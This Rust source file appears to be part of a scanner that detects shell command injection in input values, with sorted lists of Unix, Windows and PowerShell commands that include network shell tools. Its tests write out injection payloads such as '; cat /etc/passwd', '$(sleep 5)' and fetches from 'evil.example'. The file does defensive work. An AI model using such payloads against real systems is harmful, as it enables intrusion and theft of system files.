//! Commands of shells: a value is read as a shell reads it, from each place where a command can begin.

/// What kind of command was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A command of Unix behind a separator or in a substitution.
    Behind,
    /// The value is a command of Unix.
    Whole,
    /// A command of Windows or PowerShell.
    Windows,
}

/// The first command in `text`, which is in small letters; with `separators`, also one behind a separator.
pub(crate) fn command(text: &[u8], separators: bool) -> Option<(Kind, &[u8])> {
    let start = text.iter().take_while(|byte| byte.is_ascii_whitespace() || b"'\"({".contains(byte)).count();
    if let Some(kind) = begin(&text[start..], Before::Nothing) {
        return Some((kind, text));
    }
    if !separators {
        return None;
    }
    let mut at = 0;
    while let Some(found) = text[at..].iter().position(|byte| SEPARATORS[usize::from(*byte)]) {
        at += found;
        let before = at.checked_sub(1).map_or(0, |before| text[before]);
        let kind = match text[at] {
            b'(' if matches!(before, b'$' | b'<' | b'>') => begin(&text[at + 1..], Before::Substitution),
            b'(' | b'{' if before != b')' && text[at] == b'(' => None,
            // Code in a text is set in backticks with spaces around them.
            b'`' if at > 0 && before.is_ascii_whitespace() || text.get(at + 1).is_some_and(u8::is_ascii_whitespace) => {
                None
            }
            b'`' => begin(&text[at + 1..], Before::Substitution),
            b'{' if !text[..at].trim_ascii_end().ends_with(b")") => None,
            _ => begin(&text[at + 1..], Before::Separator),
        };
        if let Some(kind) = kind {
            return Some((kind, &text[at..]));
        }
        at += 1;
    }
    None
}

const SEPARATORS: [bool; 256] = {
    let mut table = [false; 256];
    let bytes = b";|&\n\r`({";
    let mut at = 0;
    while at < bytes.len() {
        table[bytes[at] as usize] = true;
        at += 1;
    }
    table
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Before {
    Nothing,
    Separator,
    Substitution,
}

/// Programs that run the one named behind them.
const WRAPPERS: [&[u8]; 16] = [
    b"sudo", b"time", b"nohup", b"exec", b"command", b"env", b"nice", b"setsid", b"eval", b"busybox", b"xargs",
    b"builtin", b"strace", b"timeout", b"do", b"then",
];
/// Words that alone behind a separator are a command.
const ALONE: [&[u8]; 11] = [b"df", b"dir", b"env", b"hostname", b"id", b"ls", b"ps", b"set", b"uname", b"ver", b"w"];

/// Whether a command begins here.
fn begin(text: &[u8], before: Before) -> Option<Kind> {
    let mut rest = text;
    let mut wrapped = false;
    // Wrappers, their options, and assignments; a bound keeps long runs of them linear.
    for _ in 0..8 {
        let skip = rest.iter().take_while(|byte| byte.is_ascii_whitespace() || b"({!@".contains(byte)).count();
        rest = &rest[skip..];
        let (name, after) = split_name(rest);
        if name.is_empty() {
            return None;
        }
        if WRAPPERS.contains(&name) && after.first().is_some_and(u8::is_ascii_whitespace) {
            let skip = options(after);
            // Without a command behind it, it is one itself.
            if split_name(after[skip..].trim_ascii_start()).0.is_empty() {
                break;
            }
            if let Some(kind) = named(name, after, before) {
                return Some(kind);
            }
            rest = &after[skip..];
            wrapped = true;
        } else if after.first() == Some(&b'=') && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
        {
            let end = after.iter().position(|byte| byte.is_ascii_whitespace() || b";|&".contains(byte))?;
            rest = &after[end..];
        } else {
            break;
        }
    }
    let (name, after) = split_name(rest);
    let before = if wrapped && before == Before::Nothing { Before::Separator } else { before };
    named(name, after, before)
}

/// Bytes of options, and of a number behind them.
fn options(text: &[u8]) -> usize {
    let mut at = 0;
    loop {
        let space = text[at..].iter().take_while(|byte| byte.is_ascii_whitespace()).count();
        let word = text[at + space..].iter().take_while(|byte| !byte.is_ascii_whitespace()).count();
        let option = matches!(text.get(at + space), Some(b'-' | b'0'..=b'9'));
        if !option || space == 0 {
            return at;
        }
        at += space + word;
    }
}

/// A command's name without its path, and what follows it.
fn split_name(text: &[u8]) -> (&[u8], &[u8]) {
    let part = |byte: &&u8| byte.is_ascii_alphanumeric() || b"_.+-/\\:".contains(byte);
    let length = text.iter().take(200).take_while(part).count();
    let full = &text[..length];
    let start = full.iter().rposition(|byte| matches!(byte, b'/' | b'\\' | b':')).map_or(0, |at| at + 1);
    // A switch of Windows may follow without a space: `ipconfig/all`.
    let known =
        full.iter().position(|byte| *byte == b'/').filter(|at| *at > 0 && WINDOWS.binary_search(&&full[..*at]).is_ok());
    match known {
        Some(at) => (&full[..at], &text[at..]),
        None => (&full[start..], &text[length..]),
    }
}

fn named(name: &[u8], after: &[u8], before: Before) -> Option<Kind> {
    if name.is_empty() || !(name[0].is_ascii_alphanumeric()) {
        return None;
    }
    // What follows tells most words of a text from commands, and costs less than the lists.
    if windows_argument(after) {
        let program = name.strip_suffix(b".exe").or(name.strip_suffix(b".com")).unwrap_or(name);
        if WINDOWS.binary_search(&program).is_ok() {
            return Some(Kind::Windows);
        }
    }
    if powershell_argument(after) && ALIASES.binary_search(&name).is_ok() {
        return Some(Kind::Windows);
    }
    if !after.first().is_none_or(|byte| byte.is_ascii_whitespace() || b";|&<>)`$/}'\"#".contains(byte)) {
        return None;
    }
    let base = name.iter().rposition(|byte| !byte.is_ascii_digit() && *byte != b'.').map_or(name, |at| &name[..=at]);
    let is = |list: &[&[u8]]| {
        list.binary_search(&name).is_ok() || base.len() < name.len() && list.binary_search(&base).is_ok()
    };
    let next = after.trim_ascii_start().first().copied();
    let alone = || next.is_none_or(|byte| b";|&`')\"#".contains(&byte)) && ALONE.contains(&name);
    let kind = if before == Before::Nothing { Kind::Whole } else { Kind::Behind };
    let found = match before {
        Before::Nothing => argument(after, true) && is(RARE) || strong_argument(after) && is(WORDS),
        Before::Separator => is(RARE) || name == b"sleep" && next.is_some_and(|byte| byte.is_ascii_digit()) || (argument(after, false) || alone()) && is(WORDS),
        Before::Substitution => is(RARE) || is(WORDS),
    };
    found.then_some(kind)
}

/// Whether what follows a command is what follows commands: an option, a path, a redirection.
fn argument(after: &[u8], address: bool) -> bool {
    let text = after.trim_ascii_start();
    let spaced = text.len() < after.len();
    let word_end =
        text.iter().position(|byte| byte.is_ascii_whitespace() || b";|&<>".contains(byte)).unwrap_or(text.len());
    let word = &text[..word_end];
    let follows = text[word_end..].trim_ascii_start();
    let path = word.iter().filter(|byte| **byte == b'/').count() > 1;
    let file = word.iter().rposition(|byte| *byte == b'.').is_some_and(|dot| FILES.contains(&&word[dot + 1..]));
    let host = word.iter().position(|byte| *byte == b'.').is_some_and(|dot| {
        let tail = &word[dot + 1..];
        dot > 0 && tail.len() > 1 && tail.iter().all(|byte| byte.is_ascii_alphanumeric() || b".-/:".contains(byte))
    });
    match text {
        [b'-', next, ..] if spaced => next.is_ascii_alphanumeric() || *next == b'-',
        [b'+', next, ..] if spaced => next.is_ascii_alphabetic(),
        [b'/', next, ..] => next.is_ascii_alphabetic() || b"*?".contains(next),
        [b'/'] | [b'.', b'/', ..] | [b'.', b'.', b'/', ..] | [b'~', b'/', ..] => true,
        [b'$', next, ..] => next.is_ascii_alphabetic() || b"{(".contains(next),
        [b'<', next, ..] => b"<(/".contains(next) || next.is_ascii_alphabetic(),
        [b'>', ..] => true,
        [b'|', next, ..] => next.is_ascii_alphabetic() || b" /".contains(next) && !address,
        [b';' | b'&', ..] | [] => false,
        _ if !spaced => false,
        _ => {
            path || file
                || host
                || (!word.is_empty() && (matches!(follows, [b'>', ..]) || follows.first() == Some(&b'|') && pipe(follows)))
                || (address && word.iter().all(u8::is_ascii_digit) && !word.is_empty())
        }
    }
}

/// As [`argument`], for a word that begins a value, as it may begin a sentence.
fn strong_argument(after: &[u8]) -> bool {
    let text = after.trim_ascii_start();
    match text {
        [b'-', b'-', next, ..] | [b'-', next, ..] => next.is_ascii_alphabetic(),
        [b'/', next, ..] => next.is_ascii_alphabetic() || b"*?.".contains(next),
        [b'.', b'/', ..] | [b'.', b'.', b'/', ..] | [b'~', b'/', ..] | [b'<', b'<', b'<', ..] => true,
        _ => {
            let end = text.iter().position(u8::is_ascii_whitespace).unwrap_or(text.len());
            let word = &text[..end];
            let url = word.windows(3).any(|window| window == b"://");
            let file = word.iter().rposition(|byte| *byte == b'.').is_some_and(|dot| FILES.contains(&&word[dot + 1..]));
            let next = text[end..].trim_ascii_start();
            let lone = next.is_empty();
            url || file && lone
                || !word.is_empty()
                    && (matches!(next, [b'>', b' ' | b'/' | b'>', ..]) || pipe(next))
        }
    }
}

/// Whether `|` or `&&` and a command follow.
fn pipe(text: &[u8]) -> bool {
    let Some(rest) = text.strip_prefix(b"|").or(text.strip_prefix(b"&&")) else { return false };
    let (name, _) = split_name(rest.trim_ascii_start());
    RARE.binary_search(&name).is_ok() || WORDS.binary_search(&name).is_ok()
}

/// Endings of files that commands are pointed at.
const FILES: [&[u8]; 27] = [
    b"txt", b"log", b"conf", b"cfg", b"ini", b"gz", b"sh", b"php", b"py", b"pl", b"rb", b"zst", b"bz2", b"sql", b"htm",
    b"html", b"json", b"xml", b"yml", b"yaml", b"key", b"pem", b"env", b"bak", b"tar", b"c", b"csv",
];

fn windows_argument(after: &[u8]) -> bool {
    let text = after.trim_ascii_start();
    let spaced = text.len() < after.len();
    match text {
        [] => true,
        [b'/', next, ..] => next.is_ascii_alphabetic() || *next == b'?',
        [b'<' | b'>' | b'|', ..] => true,
        [b'-' | b'%' | b'\\' | b'"' | b'@', ..] => spaced,
        [drive, b':', b'\\' | b'/', ..] => spaced && drive.is_ascii_alphabetic(),
        [byte, ..] if spaced && byte.is_ascii_digit() => true,
        _ => {
            let word = text.iter().take_while(|byte| byte.is_ascii_alphanumeric() || b"_-.".contains(byte)).count();
            let dot = text[..word].iter().position(|byte| *byte == b'.');
            spaced && dot.is_some_and(|dot| dot > 0 && dot + 1 < word)
        }
    }
}

fn powershell_argument(after: &[u8]) -> bool {
    let text = after.trim_ascii_start();
    text.len() < after.len()
        && (matches!(text, [b'-', b'a'..=b'z', ..] | [b'$' | b'\'' | b'"', ..] | [b'a'..=b'z', b':', ..])
            || text.starts_with(b"http"))
}

/// Commands of Unix that are no words of a language, sorted.
const RARE: &[&[u8]] = &[
    b"7z",
    b"7za",
    b"7zr",
    b"7zx",
    b"adduser",
    b"ansible",
    b"apt-get",
    b"aptitude",
    b"arp",
    b"awk",
    b"base32",
    b"base64",
    b"bash",
    b"bcdedit",
    b"bsdcat",
    b"bsdtar",
    b"bunzip2",
    b"busybox",
    b"bzcat",
    b"bzip2",
    b"bzless",
    b"c89",
    b"c99",
    b"capsh",
    b"chattr",
    b"chef",
    b"chef-client",
    b"chef-run",
    b"chef-shell",
    b"chef-vault",
    b"chgrp",
    b"chmod",
    b"chown",
    b"chpasswd",
    b"chroot",
    b"cpio",
    b"cpulimit",
    b"crontab",
    b"cscli",
    b"csh",
    b"csplit",
    b"dhclient",
    b"dmesg",
    b"dmidecode",
    b"dnf",
    b"doas",
    b"dpkg",
    b"easy_install",
    b"egrep",
    b"esac",
    b"ethtool",
    b"faillog",
    b"fgrep",
    b"fping",
    b"ftp",
    b"g++",
    b"gawk",
    b"gcc",
    b"gdb",
    b"getent",
    b"ghci",
    b"gtester",
    b"gunzip",
    b"gzcat",
    b"gzexe",
    b"gzip",
    b"hexdump",
    b"hping3",
    b"htop",
    b"iconv",
    b"ifconfig",
    b"ifdown",
    b"ifup",
    b"insmod",
    b"ionice",
    b"ip6tables",
    b"ipcs",
    b"iptables",
    b"irb",
    b"jexec",
    b"jjs",
    b"journalctl",
    b"jrunscript",
    b"killall",
    b"kpartx",
    b"ksh",
    b"kubectl",
    b"lastcomm",
    b"lastlog",
    b"ldconfig",
    b"ldd",
    b"ln",
    b"logsave",
    b"lsattr",
    b"lsb_release",
    b"lscpu",
    b"lsof",
    b"ltrace",
    b"lwp-download",
    b"lwp-dump",
    b"lwp-mirror",
    b"lwp-request",
    b"lynx",
    b"lzcat",
    b"lzless",
    b"lzma",
    b"mawk",
    b"mkdir",
    b"mkfifo",
    b"mknod",
    b"mktemp",
    b"mlocate",
    b"mlr",
    b"modprobe",
    b"msgattrib",
    b"mysql",
    b"mysqladmin",
    b"mysqldump",
    b"nasm",
    b"nawk",
    b"nc",
    b"nc.openbsd",
    b"nc.traditional",
    b"ncat",
    b"netcat",
    b"netstat",
    b"nmap",
    b"nohup",
    b"nroff",
    b"nsenter",
    b"nslookup",
    b"ntsd",
    b"openssl",
    b"openvt",
    b"passwd",
    b"pax",
    b"pdb",
    b"pdksh",
    b"ping",
    b"ping6",
    b"pkexec",
    b"pkg_info",
    b"pkginfo",
    b"pkill",
    b"popd",
    b"printenv",
    b"printf",
    b"psed",
    b"psftp",
    b"psql",
    b"ptar",
    b"ptardiff",
    b"ptargrep",
    b"pushd",
    b"pwd",
    b"rbash",
    b"rcp",
    b"rdiff",
    b"readelf",
    b"realpath",
    b"rlogin",
    b"rlwrap",
    b"rmdir",
    b"rmt",
    b"rpm",
    b"rpmquery",
    b"rsh",
    b"rsync",
    b"rvim",
    b"scp",
    b"screendump",
    b"sed",
    b"setarch",
    b"setfacl",
    b"setsid",
    b"sftp",
    b"sh",
    b"sha1sum",
    b"sha256sum",
    b"sha512sum",
    b"shadowconfig",
    b"shuf",
    b"smbclient",
    b"smbmap",
    b"snice",
    b"socat",
    b"ssh",
    b"sshpass",
    b"start-stop-daemon",
    b"stdbuf",
    b"strace",
    b"stty",
    b"su",
    b"sudo",
    b"sudoedit",
    b"sysctl",
    b"systemctl",
    b"tac",
    b"tailf",
    b"tar",
    b"tclsh",
    b"tcpdump",
    b"tcping",
    b"tcptraceroute",
    b"tcsh",
    b"tee",
    b"telnet",
    b"tftp",
    b"tmux",
    b"traceroute",
    b"traceroute6",
    b"tshark",
    b"uname",
    b"uncompress",
    b"uniq",
    b"unlink",
    b"unlzma",
    b"unshare",
    b"unxz",
    b"unzip",
    b"unzstd",
    b"update-alternatives",
    b"useradd",
    b"userdel",
    b"usermod",
    b"uudecode",
    b"uuencode",
    b"vagrant",
    b"valgrind",
    b"vigr",
    b"vim",
    b"vimdiff",
    b"vipw",
    b"virsh",
    b"wget",
    b"whiptail",
    b"whoami",
    b"whois",
    b"wireshark",
    b"xargs",
    b"xelatex",
    b"xmodmap",
    b"xxd",
    b"xz",
    b"xzcat",
    b"xzdiff",
    b"xzegrep",
    b"xzgrep",
    b"xzless",
    b"xzmore",
    b"yum",
    b"zcat",
    b"zcmp",
    b"zdiff",
    b"zegrep",
    b"zfgrep",
    b"zgrep",
    b"zipcloak",
    b"zipdetails",
    b"zipinfo",
    b"zless",
    b"zmore",
    b"zsh",
    b"zstd",
    b"zstdcat",
    b"zstdgrep",
    b"zstdless",
    b"zypper",
];

/// Commands of Unix that are words too, or short, sorted: they need more around them.
const WORDS: &[&[u8]] = &[
    b"ab",
    b"agetty",
    b"alias",
    b"as",
    b"ash",
    b"at",
    b"atobm",
    b"batch",
    b"bpftrace",
    b"breaksw",
    b"bridge",
    b"builtin",
    b"bundle",
    b"byebug",
    b"cancel",
    b"cat",
    b"cc",
    b"check",
    b"choom",
    b"cobc",
    b"column",
    b"comm",
    b"command",
    b"compgen",
    b"cowsay",
    b"cp",
    b"curl",
    b"cut",
    b"dash",
    b"date",
    b"dd",
    b"df",
    b"dialog",
    b"diff",
    b"dig",
    b"dir",
    b"docker",
    b"done",
    b"dosbox",
    b"dvips",
    b"ebegin",
    b"echo",
    b"ed",
    b"ent",
    b"env",
    b"eqn",
    b"eval",
    b"ex",
    b"exec",
    b"expand",
    b"expect",
    b"export",
    b"facter",
    b"fetch",
    b"file",
    b"find",
    b"finger",
    b"fish",
    b"flock",
    b"fmt",
    b"fold",
    b"free",
    b"gem",
    b"genie",
    b"gimp",
    b"git",
    b"grep",
    b"groups",
    b"hash",
    b"hd",
    b"head",
    b"hg",
    b"highlight",
    b"history",
    b"host",
    b"hostid",
    b"hostname",
    b"id",
    b"install",
    b"ip",
    b"jobs",
    b"join",
    b"jq",
    b"kill",
    b"last",
    b"latex",
    b"ld",
    b"less",
    b"link",
    b"links",
    b"loadkeys",
    b"locate",
    b"logname",
    b"look",
    b"lp",
    b"ls",
    b"ls-f",
    b"lua",
    b"mail",
    b"make",
    b"man",
    b"mirror",
    b"more",
    b"mosquitto",
    b"mount",
    b"msgcat",
    b"mtr",
    b"mutt",
    b"mv",
    b"nano",
    b"nft",
    b"nice",
    b"nl",
    b"nm",
    b"node",
    b"npm",
    b"nvm",
    b"octave",
    b"od",
    b"paste",
    b"patch",
    b"perf",
    b"perl",
    b"pg",
    b"php",
    b"pico",
    b"pidstat",
    b"pip",
    b"pip2",
    b"pip3",
    b"pipx",
    b"pr",
    b"pry",
    b"ps",
    b"ptx",
    b"puppet",
    b"python",
    b"pyton",
    b"rake",
    b"rc",
    b"readonly",
    b"reboot",
    b"red",
    b"rename",
    b"restic",
    b"rev",
    b"rm",
    b"route",
    b"ruby",
    b"run-parts",
    b"runscript",
    b"rview",
    b"sash",
    b"scanmem",
    b"scheme",
    b"screen",
    b"script",
    b"select",
    b"service",
    b"set",
    b"sleep",
    b"slsh",
    b"soelim",
    b"softlimit",
    b"sort",
    b"source",
    b"split",
    b"sqlite",
    b"sqlite3",
    b"ss",
    b"stat",
    b"strings",
    b"sysadminctl",
    b"tail",
    b"task",
    b"tasksh",
    b"tbl",
    b"tic",
    b"time",
    b"timedatectl",
    b"timeout",
    b"top",
    b"torify",
    b"torsocks",
    b"touch",
    b"troff",
    b"type",
    b"uconv",
    b"ul",
    b"ulimit",
    b"umount",
    b"unalias",
    b"unset",
    b"users",
    b"utmpdump",
    b"vi",
    b"view",
    b"volatility",
    b"w",
    b"wall",
    b"watch",
    b"wc",
    b"who",
    b"wish",
    b"write",
    b"xdotool",
    b"xmore",
    b"xpad",
    b"xtar",
    b"yarn",
    b"yash",
    b"yelp",
    b"zathura",
    b"zip",
    b"zrun",
    b"zsoelim",
];

/// Commands of Windows, sorted.
const WINDOWS: &[&[u8]] = &[
    b"assoc",
    b"attrib",
    b"bcdboot",
    b"bcdedit",
    b"bitsadmin",
    b"cacls",
    b"certreq",
    b"certutil",
    b"cscript",
    b"csvde",
    b"dcomcnfg",
    b"diskpart",
    b"diskshadow",
    b"dnscmd",
    b"dsquery",
    b"eventvwr",
    b"extrac32",
    b"fltmc",
    b"forfiles",
    b"fsutil",
    b"ftype",
    b"gpresult",
    b"gpupdate",
    b"icacls",
    b"ieexec",
    b"iexplore",
    b"infdefaultinstall",
    b"ipconfig",
    b"jsc",
    b"logoff",
    b"makecab",
    b"mavinject",
    b"mmc",
    b"msbuild",
    b"msdt",
    b"mshta",
    b"msiexec",
    b"msra",
    b"nbtstat",
    b"netsh",
    b"nltest",
    b"notepad",
    b"ntdsutil",
    b"odbcconf",
    b"pathping",
    b"pcalua",
    b"pnputil",
    b"psexec",
    b"qprocess",
    b"quser",
    b"qwinsta",
    b"rasautou",
    b"rasdial",
    b"regasm",
    b"regedit",
    b"regini",
    b"regsvcs",
    b"regsvr32",
    b"robocopy",
    b"rpcping",
    b"runas",
    b"rundll32",
    b"runonce",
    b"schtasks",
    b"scriptrunner",
    b"secedit",
    b"setx",
    b"syncappvpublishingserver",
    b"systeminfo",
    b"takeown",
    b"taskkill",
    b"tasklist",
    b"tracert",
    b"tttracer",
    b"vbc",
    b"vssadmin",
    b"w32tm",
    b"wevtutil",
    b"whoami",
    b"winget",
    b"winrm",
    b"winrs",
    b"wlrmdr",
    b"wmic",
    b"wscript",
    b"wsl",
    b"wuauclt",
    b"xcopy",
    b"xwizard",
];

/// Short names of PowerShell, sorted.
const ALIASES: &[&[u8]] = &[
    b"cli", b"clp", b"clv", b"cnsn", b"cpi", b"cpp", b"epal", b"epcsv", b"etsn", b"gal", b"gbp", b"gci", b"gcm",
    b"gdr", b"gjb", b"gl", b"gm", b"gps", b"gsv", b"gu", b"gv", b"gwmi", b"icim", b"ipal", b"ipmo", b"irm", b"iwmi",
    b"iwr", b"mci", b"mp", b"nal", b"ndr", b"nsn", b"nv", b"ogv", b"oh", b"rcjb", b"rdr", b"rjb", b"rni", b"rnp",
    b"rv", b"rvpa", b"rwmi", b"sajb", b"sal", b"saps", b"sasv", b"sbp", b"sl", b"spps", b"spsv", b"sv", b"swmi",
    b"trcm",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_are_sorted() {
        for list in [RARE, WORDS, WINDOWS, ALIASES] {
            assert!(list.is_sorted(), "{:?}", list.windows(2).find(|pair| pair[0] > pair[1]));
        }
    }

    #[test]
    fn commands_and_prose() {
        for (text, kind) in [
            ("; cat /etc/passwd", Kind::Behind),
            ("127.0.0.1|id", Kind::Behind),
            ("x && uname -a", Kind::Behind),
            ("x;sudo -u root ls -la", Kind::Behind),
            ("a=b; x=1 wget evil.example", Kind::Behind),
            ("$(sleep 5)", Kind::Behind),
            ("x`id`", Kind::Behind),
            ("curl http://evil.example/x", Kind::Whole),
            ("/usr/bin/wget -O x", Kind::Whole),
            ("nohup ifconfig", Kind::Behind),
            ("x & ipconfig /all", Kind::Windows),
            ("; iwr -uri http://evil.example", Kind::Windows),
        ] {
            assert_eq!(command(text.as_bytes(), true).map(|found| found.0), Some(kind), "{text}");
        }
        for text in [
            "cat food; dog food",
            "red; green; blue",
            "time; money; love",
            "R & D",
            "fish & chips",
            "run `ls -la` in the folder",
            "find x for y",
            "let me know; who is it?",
            "sort it out",
            "at home",
            "head of sales | acme",
            "a (b) c",
            "curl & shine",
            "make love, not war",
        ] {
            assert_eq!(command(text.to_lowercase().as_bytes(), true), None, "{text}");
        }
    }
}
